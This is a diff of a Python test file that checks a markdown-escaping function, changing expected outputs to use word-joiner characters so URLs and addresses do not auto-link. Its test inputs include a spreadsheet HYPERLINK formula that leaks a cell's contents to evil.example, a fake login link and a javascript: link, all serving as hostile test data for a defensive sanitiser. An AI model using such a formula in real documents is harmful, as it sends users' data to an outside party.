@@ -16,10 +16,10 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Details")'
 
 
 def test_markdown_text_escapes_tags_links_cells_and_line_breaks():
-    assert md_text(LINK) == "&lt;a href='https\\://evil.example/login'&gt;Log in again&lt;/a&gt;"
+    assert md_text(LINK) == "&lt;a href='https:\u2060//evil.example/login'&gt;Log in again&lt;/a&gt;"
     assert md_text("[click](javascript:alert(1))") == "\\[click\\](javascript:alert(1))"
     assert md_text("a | b\n# c `d` \\ e & www.x.org f@g.h") == (
-        "a \\| b # c \\`d\\` \\\\ e &amp; www\\.x.org f\\@g.h"
+        "a \\| b # c \\`d\\` \\\\ e &amp; www\u2060.x.org f\u2060@g.h"
     )
     assert md_text("max-num-seqs 256, tp=2 (Qwen/Qwen3-8B)") == "max-num-seqs 256, tp=2 (Qwen/Qwen3-8B)"
 
